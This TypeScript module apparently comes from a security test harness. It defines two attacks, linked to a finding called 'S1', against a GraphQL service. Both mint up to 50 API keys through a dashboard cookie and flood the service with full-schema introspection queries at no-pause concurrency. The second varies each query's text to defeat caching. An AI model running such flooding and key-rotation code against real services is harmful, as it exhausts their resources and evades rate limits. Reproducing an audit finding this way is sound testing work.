import { request } from 'undici';
import { WHOLE_SCHEMA } from '../../house/introspection.ts';
import type { Attack, Target } from '../attack.ts';
import { persist } from '../persist.ts';

/** As many live keys as an account may have. */
const KEYS = 50;

/** What every tool asks once, and nothing refuses: each key of an account without money asks it as often as it may. */
export const permittedIntrospection = everyKey(
  'the whole schema, asked for by every key of an account',
  () => WHOLE_SCHEMA,
);

/** The same question, in a document that nobody has sent before. */
export const rewordedIntrospection = everyKey(
  'the whole schema, asked for in other words each time',
  (turn) => `# ${turn}\n${WHOLE_SCHEMA}`,
);

function everyKey(name: string, query: (turn: number) => string): Attack {
  return {
    name,
    finding: 'S1',
    run: async (target, signal) => {
      const keys: string[] = [];
      while (keys.length < KEYS && !signal.aborted) {
        const key = await makeKey(target, signal).catch(() => null);
        if (key === null) break;
        keys.push(key);
      }
      let turn = 0;
      await persist(signal, { width: 8, pauseMs: 0 }, async () => {
        const key = keys[turn++ % keys.length] ?? target.penniless.apiKey;
        await ask(target.url, { authorization: `Bearer ${key}` }, query(turn), signal);
      });
    },
  };
}

async function makeKey({ dashboardUrl, cookie }: Target, signal: AbortSignal): Promise<string | null> {
  const answer = await ask(dashboardUrl, { origin: dashboardUrl, cookie }, 'mutation { createKey { key } }', signal);
  const { data } = JSON.parse(answer) as { data?: { createKey?: { key: string } } }; // a GraphQL answer
  return data?.createKey?.key ?? null;
}

async function ask(url: string, headers: Record<string, string>, query: string, signal: AbortSignal): Promise<string> {
  const { body } = await request(`${url}/graphql`, {
    method: 'POST',
    headers: { ...headers, 'content-type': 'application/json' },
    body: JSON.stringify({ query }),
    signal,
  });
  return body.text();
}
